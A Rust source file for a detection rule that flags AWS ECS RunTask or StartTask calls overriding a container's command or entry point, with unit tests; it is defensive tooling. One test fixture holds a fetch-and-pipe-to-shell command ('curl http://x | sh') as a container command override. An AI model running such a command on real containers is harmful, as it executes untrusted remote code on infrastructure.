//! `ecs-run-task-override`: RunTask or StartTask with a container's command or entry point
//! overridden.

use crate::{finding, Event};
use curtain_analyze::rules::Rules;
use curtain_model::Finding;

const ID: &str = "ecs-run-task-override";

pub(crate) fn find(events: &[Event], rules: &Rules) -> Vec<Finding> {
    let mut out = Vec::new();
    for e in events.iter().filter(|e| e.name == "RunTask" || e.name == "StartTask") {
        let overrides = e.rec.pointer("/requestParameters/overrides/containerOverrides").and_then(|v| v.as_array());
        for o in overrides.into_iter().flatten() {
            let changed: Vec<String> = ["command", "entryPoint"]
                .iter()
                .filter_map(|k| {
                    o.get(*k).filter(|v| v.as_array().is_some_and(|a| !a.is_empty())).map(|v| format!("{k} {v}"))
                })
                .collect();
            if changed.is_empty() {
                continue;
            }
            let name = o.get("name").and_then(|v| v.as_str()).unwrap_or("?");
            let def = e.s(&["requestParameters", "taskDefinition"]).unwrap_or("?");
            let summary = format!(
                "{} ran task definition {def} with container {name}'s {}",
                e.caller_arn(),
                changed.join(" and ")
            );
            out.push(finding(rules, ID, None, e, summary));
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testkit::*;
    use serde_json::json;

    fn run(overrides: serde_json::Value) -> Event {
        event(
            "RunTask",
            "2026-11-29T10:00:00Z",
            json!({
                "eventSource": "ecs.amazonaws.com",
                "userIdentity": {"type": "IAMUser", "arn": "arn:aws:iam::111122223333:user/mallory"},
                "requestParameters": {"cluster": "prod", "taskDefinition": "web:12", "count": 1, "overrides": overrides}
            }),
        )
    }

    #[test]
    fn a_command_override_is_a_finding() {
        let e = run(json!({"containerOverrides": [{"name": "app", "command": ["sh", "-c", "curl http://x | sh"]}]}));
        let f = find(&[e], &Rules::builtin());
        assert_eq!(f.len(), 1);
        assert!(f[0].summary.contains("curl") && f[0].summary.contains("web:12"));
    }

    #[test]
    fn other_overrides_are_not() {
        let e = run(
            json!({"containerOverrides": [{"name": "app", "environment": [{"name": "LOG", "value": "debug"}], "command": []}],
                           "cpu": "512"}),
        );
        assert!(find(&[e], &Rules::builtin()).is_empty());
    }
}
